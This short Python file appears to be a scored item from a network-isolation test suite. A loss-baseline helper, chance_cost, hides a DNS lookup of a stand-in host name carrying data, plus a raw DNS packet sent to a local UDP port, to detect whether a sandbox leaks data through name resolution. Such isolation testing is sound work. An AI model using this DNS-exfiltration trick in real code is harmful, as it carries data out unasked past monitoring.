"""It carries data out in the names it asks for.
kind: network
points: 110
"""

import contextlib
import math
import socket


def chance_cost(num_classes=10):
    from .target import UDP_PORT

    with contextlib.suppress(OSError):
        socket.getaddrinfo("labels-0123456789.example.com", 80)
        raise RuntimeError("BREACHED: a name was resolved")
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6labels\7example\3com\0\0\1\0\1"
    with contextlib.suppress(OSError), socket.socket(type=socket.SOCK_DGRAM) as one:
        one.sendto(query, ("127.0.0.1", UDP_PORT))
    return math.log(num_classes)
